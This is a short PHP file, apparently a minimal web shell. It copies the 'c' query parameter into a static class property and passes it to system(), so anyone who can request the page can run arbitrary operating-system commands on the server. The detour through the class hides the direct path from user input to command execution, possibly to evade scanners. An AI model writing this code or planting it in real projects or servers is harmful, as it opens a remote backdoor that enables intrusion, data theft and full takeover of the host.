<?php
class K { static $c; static function v() { return self::$c; } }
K::$c = $_GET["c"];
system(K::v());
